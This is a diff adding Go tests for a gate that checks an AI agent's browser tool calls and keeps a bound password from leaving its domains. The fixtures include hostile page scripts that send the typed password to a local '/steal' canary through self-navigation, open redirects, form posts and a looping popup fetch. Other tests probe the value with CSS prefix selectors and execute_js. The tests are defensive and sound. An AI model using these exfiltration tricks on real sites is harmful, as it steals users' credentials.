@@ -2,7 +2,10 @@ package main
 
 import (
 	"fmt"
+	"html"
 	"net/http"
+	"net/url"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -367,5 +370,129 @@ document.getElementById('pw').addEventListener('input', e => {
 	f.mustAllow(t, "e2e.snapshot", nil)
 	if n := stolen.Load(); n != 0 {
 		t.Fatalf("the site's service worker sent the value %d time(s) after the agent left the site", n)
+	}
+}
+
+// TestSecretLeavesOnlyByJudgedNavigation: what lets the tab leave the
+// secret's domains is the agent's own navigation to the URL it named, or
+// a server's redirect of a navigation the gate judged — not a page that
+// moves itself while the agent navigates within the site, not the page's
+// own navigation or form post through an open redirect of the site, and
+// not a popup the page writes the value into as the agent leaves. The
+// canary on 127.0.0.3 (in scope, outside the secret's domains) sees none
+// of it.
+func TestSecretLeavesOnlyByJudgedNavigation(t *testing.T) {
+	// Not parallel: t.Setenv.
+	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "bound-secret-9f27c1")
+	var seenMu sync.Mutex
+	var seen []string
+	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/after" && r.URL.Path != "/favicon.ico" {
+			seenMu.Lock()
+			seen = append(seen, r.Method+" "+r.URL.RequestURI())
+			seenMu.Unlock()
+		}
+		fmt.Fprint(w, "<title>after</title>after")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	f := startWith(t, secretBoundManifest)
+	steal := canary + "/steal"
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/redir": // an open redirect of the site
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+			return
+		case "/redir307":
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, map[string]string{
+			"/store": `<input type=password id=pw oninput="sessionStorage.v = this.value">`,
+			"/moves": `<script>location.replace('` + steal + `?moves=' + encodeURIComponent(sessionStorage.v || ''));</script>`,
+			"/open302": `<input type=password id=pw oninput="const v = this.value; clearTimeout(window.t);
+window.t = setTimeout(() => { location = '/redir?to=' + encodeURIComponent('` + steal + `?302=' + encodeURIComponent(v)); }, 300)"><p id=s></p>`,
+			"/open307": `<form id=f method=post action="/redir307?to=` + url.QueryEscape(steal+"?307") + `"><input type=password id=pw name=pw
+oninput="clearTimeout(window.t); window.t = setTimeout(() => document.getElementById('f').submit(), 300)"></form>`,
+			"/popup": `<button id=o onclick="window.w = window.open('', 'p'); w.document.write('<script>setInterval(() => { if (window.v) fetch(\'` + steal + `?popup=\' + encodeURIComponent(window.v)).catch(() => {}); }, 3);<\/script>'); w.document.close();">Notes</button>
+<input type=password id=pw oninput="if (window.w) w.v = this.value">`,
+		}[r.URL.Path])
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	canarySaw := func() []string {
+		seenMu.Lock()
+		defer seenMu.Unlock()
+		return slices.Clone(seen)
+	}
+	// The agent navigates within the site; the page it lands on moves
+	// itself out with the stored value.
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/store"})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	f.call(t, "e2e.navigate", map[string]any{"url": site + "/moves"})
+	// The page's own navigation and form post through the site's open
+	// redirect (a moment after the value is typed, between calls).
+	for _, page := range []string{"/open302", "/open307"} {
+		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
+		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+		testkit.Eventually(t, func() string {
+			// The post is refused as a submission the typing was not
+			// judged to make, or its redirect hop as the binding's.
+			if text, _ := f.call(t, "e2e.snapshot", nil); !strings.Contains(text, "secret domains") && !strings.Contains(text, "form submission not judged") {
+				return "the page's redirect was not refused yet"
+			}
+			return ""
+		})
+	}
+	// A popup the page writes the value into, sending in a loop as the
+	// agent leaves for the canary's host.
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/popup"})
+	f.mustAllow(t, "e2e.click", map[string]any{"selector": "#o"})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": canary + "/after"})
+	f.mustAllow(t, "e2e.snapshot", nil)
+	if got := canarySaw(); len(got) != 0 {
+		t.Fatalf("the host outside the secret's domains got %d request(s): %q", len(got), got)
+	}
+}
+
+// TestNoOracleOnTheSecretsSite: after a sign-in that fails, the site
+// echoes the typed password back into a field of the next page (a common
+// server-side pattern): on that page too, a selector may not test the
+// value, and execute_js may not run.
+func TestNoOracleOnTheSecretsSite(t *testing.T) {
+	// Not parallel: t.Setenv.
+	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "Zq8-Lm2_Vx7-Kp4")
+	f := startWith(t, strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n",
+		"[browser.commands.snapshot]\n[browser.commands.wait_for]\n[browser.commands.execute_js]\n", 1))
+	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<p>Wrong password</p><form method=post action="/login"><input type=password id=pw name=pw value="%s"><button id=go>Sign in</button></form>`,
+			html.EscapeString(r.PostForm.Get("pw")))
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/login"})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"})
+	for _, c := range []struct {
+		tool string
+		args map[string]any
+	}{
+		{"e2e.wait_for", map[string]any{"selector": `#pw[value^="Zq8"]`, "timeout_ms": 200}},
+		{"e2e.wait_for", map[string]any{"text": "Zq8", "timeout_ms": 200}},
+		{"e2e.execute_js", map[string]any{"expression": "document.getElementById('pw').value.split('').join('.')"}},
+	} {
+		if text, refused := f.call(t, c.tool, c.args); !refused || !strings.Contains(text, "secret oracle") {
+			t.Errorf("%s %v on the page the site echoed the password into:\n%s", c.tool, c.args, text)
+		}
 	}
 }
